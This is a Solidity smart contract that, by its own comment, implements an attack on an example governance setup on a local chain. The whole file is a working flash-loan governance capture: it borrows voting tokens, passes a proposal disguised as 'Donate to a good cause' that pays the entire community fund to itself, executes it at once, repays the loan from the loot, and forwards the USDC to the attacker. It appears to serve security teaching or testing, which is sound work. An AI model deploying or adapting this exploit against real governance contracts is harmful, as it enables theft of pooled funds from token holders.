// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {CommunityFund} from "../governance/CommunityFund.sol";
import {SnapshotlessGovernor} from "../governance/SnapshotlessGovernor.sol";
import {IUniswapV2Pair} from "../interfaces/IUniswapV2.sol";
import {IUniswapV3FlashCallback, IUniswapV3Pool} from "../interfaces/IUniswapV3.sol";

/// @title GovernanceCapture
/// @notice ATTACK, for the example market on a local chain. Borrows two thirds of the votes for one transaction,
/// proposes to pay the whole fund to itself, votes, executes, buys the votes for the loan's fee from the loot, and
/// gives the votes back.
contract GovernanceCapture is IUniswapV3FlashCallback {
    using SafeERC20 for IERC20;

    address private immutable _attacker;
    IUniswapV3Pool private immutable _lender;
    IUniswapV2Pair private immutable _market;
    SnapshotlessGovernor private immutable _governor;
    CommunityFund private immutable _fund;
    IERC20 private immutable _usdc;
    IERC20 private immutable _votes;

    error NotAttacker();
    error UnexpectedCaller();

    constructor(
        IUniswapV3Pool lender,
        IUniswapV2Pair market,
        SnapshotlessGovernor governor,
        CommunityFund fund,
        IERC20 usdc
    ) {
        _attacker = msg.sender;
        _lender = lender;
        _market = market;
        _governor = governor;
        _fund = fund;
        _usdc = usdc;
        _votes = governor.token();
    }

    /// @notice Runs the attack with `amount` votes borrowed.
    function run(uint256 amount) external {
        if (msg.sender != _attacker) revert NotAttacker();
        bool votesAre0 = _lender.token0() == address(_votes);
        _lender.flash(address(this), votesAre0 ? amount : 0, votesAre0 ? 0 : amount, abi.encode(amount));
        _usdc.safeTransfer(_attacker, _usdc.balanceOf(address(this)));
    }

    /// @inheritdoc IUniswapV3FlashCallback
    function uniswapV3FlashCallback(uint256 fee0, uint256 fee1, bytes calldata data) external {
        if (msg.sender != address(_lender)) revert UnexpectedCaller();
        uint256 amount = abi.decode(data, (uint256));

        address[] memory targets = new address[](1);
        uint256[] memory values = new uint256[](1);
        bytes[] memory calldatas = new bytes[](1);
        targets[0] = address(_fund);
        calldatas[0] =
            abi.encodeCall(CommunityFund.pay, (_usdc, address(this), _usdc.balanceOf(address(_fund))));
        string memory description = "Donate to a good cause";
        uint256 id = _governor.propose(targets, values, calldatas, description);
        _governor.castVote(id, 1);
        _governor.emergencyExecute(targets, values, calldatas, keccak256(bytes(description)));

        uint256 fee = fee0 + fee1;
        _buyVotes(fee);
        _votes.safeTransfer(msg.sender, amount + fee);
    }

    function _buyVotes(uint256 amountOut) private {
        bool usdcIs0 = _market.token0() == address(_usdc);
        (uint256 reserve0, uint256 reserve1,) = _market.getReserves();
        (uint256 reserveIn, uint256 reserveOut) = usdcIs0 ? (reserve0, reserve1) : (reserve1, reserve0);
        uint256 amountIn = reserveIn * amountOut * 1000 / ((reserveOut - amountOut) * 997) + 1;
        _usdc.safeTransfer(address(_market), amountIn);
        (uint256 out0, uint256 out1) = usdcIs0 ? (uint256(0), amountOut) : (amountOut, uint256(0));
        _market.swap(out0, out1, address(this), "");
    }
}
